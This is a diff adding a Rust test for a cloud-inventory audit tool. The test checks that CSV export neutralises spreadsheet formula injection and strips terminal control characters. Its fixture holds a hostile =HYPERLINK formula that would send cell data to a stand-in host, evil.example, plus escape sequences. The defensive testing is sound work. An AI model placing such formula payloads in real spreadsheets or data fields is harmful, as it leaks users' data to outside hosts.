@@ -572,3 +572,70 @@ fn backstop_diff_escapes_every_format() {
     assert!(!md.contains('<') && !md.contains("@org"), "{md}");
     no_raw_c0(&std::fs::read_to_string(dir.path().join("d.json")).unwrap());
 }
+
+// ---------------------------------------------------------------------------
+// `backstop audit --csv`: a saved inventory whose names and tags are
+// spreadsheet formulas, quotes, commas, line breaks and terminal escapes.
+
+#[test]
+fn audit_csv_keeps_hostile_names_inert_and_whole() {
+    let dir = tempfile::tempdir().unwrap();
+    let formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"a, b\")\n\u{1b}[31mred\u{7}";
+    let inventory = serde_json::json!({
+        "schema": "backstop.inventory/v1",
+        "source": {"kind": "inventory", "account": "123456789012", "regions": ["eu-west-1"]},
+        "collected_at": "2026-11-20T09:00:00Z",
+        "resources": [
+            {"type": "aws.logs.log_group", "id": formula, "arn": "@arn", "region": "eu-west-1",
+             "account": "123456789012", "tags": {"owner": "+team"}, "attributes": {}},
+            {"type": "aws.s3.bucket", "id": "-bucket,\"quoted\"", "region": "eu-west-1",
+             "account": "123456789012", "attributes": {}}
+        ]
+    });
+    std::fs::write(dir.path().join("inv.json"), inventory.to_string()).unwrap();
+    let out = run_in(
+        dir.path(),
+        &[
+            "audit",
+            "--inventory",
+            "inv.json",
+            "--fail-on",
+            "never",
+            "--json",
+            "r.json",
+            "--csv",
+            "r.csv",
+        ],
+    );
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    let text = std::fs::read_to_string(dir.path().join("r.csv")).unwrap();
+    no_controls(&text);
+    let report =
+        Report::from_json(&std::fs::read_to_string(dir.path().join("r.json")).unwrap()).unwrap();
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let id_column = render::csv::COLUMNS
+        .iter()
+        .position(|c| *c == "resource_id")
+        .unwrap();
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    // Nothing vanished: every result of the JSON has its row, its
+    // unread facts as `error`.
+    assert_eq!(rows.len(), report.results.len());
+    assert!(rows.len() >= 5, "{text}");
+    for (row, finding) in rows.iter().zip(&report.results) {
+        assert_eq!(&row[4], finding.status.as_str());
+        for cell in row {
+            let start = cell.trim_start().chars().next();
+            assert!(
+                !matches!(start, Some('=' | '+' | '-' | '@')),
+                "formula cell {cell:?}"
+            );
+        }
+        let id = &row[id_column];
+        assert!(
+            id == "'=HYPERLINK(\"https://evil.example/?\"&A1,\"a, b\")\nred"
+                || id == "'-bucket,\"quoted\"",
+            "{id:?}"
+        );
+    }
+}
